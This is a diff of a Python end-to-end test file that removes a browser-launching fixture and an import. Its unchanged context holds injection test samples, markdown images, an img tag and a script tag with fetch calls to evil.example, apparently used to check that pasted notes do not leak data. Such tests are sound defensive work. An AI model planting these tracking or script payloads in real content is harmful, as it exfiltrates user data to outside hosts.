@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import os
 from collections.abc import Iterator
 from email import message_from_bytes
 from email.policy import default
@@ -13,7 +12,7 @@ from urllib.parse import urlsplit
 import pytest
 
 from assistant.samples import sample_notes
-from tests.e2e.screen import NoBrowser, browsing, open_page, paste, served, settle
+from tests.e2e.screen import open_page, paste, served, settle
 
 if TYPE_CHECKING:
     from playwright.sync_api import Browser, Page
@@ -25,18 +24,6 @@ she said ![x](http://evil.example/track?d=1) and <img src=http://evil.example/i.
 loved the <script>fetch("http://evil.example/s")</script> ![demo](//evil.example/j.png) of the clinic board
 Salary: ![pay](http://evil.example/pay.png) 50k
 - Tom ![x](http://evil.example/name.png) Adeyemi"""
-
-
-@pytest.fixture(scope="session")
-def browser() -> Iterator[Browser]:
-    """A real browser. Where there is none the tests are skipped, unless AFTERWORD_REQUIRE_BROWSER is 1."""
-    try:
-        with browsing() as found:
-            yield found
-    except NoBrowser as missing:
-        if os.environ.get("AFTERWORD_REQUIRE_BROWSER") == "1":
-            pytest.fail(f"AFTERWORD_REQUIRE_BROWSER is 1, and {missing}")
-        pytest.skip(str(missing))
 
 
 @pytest.fixture(scope="session")
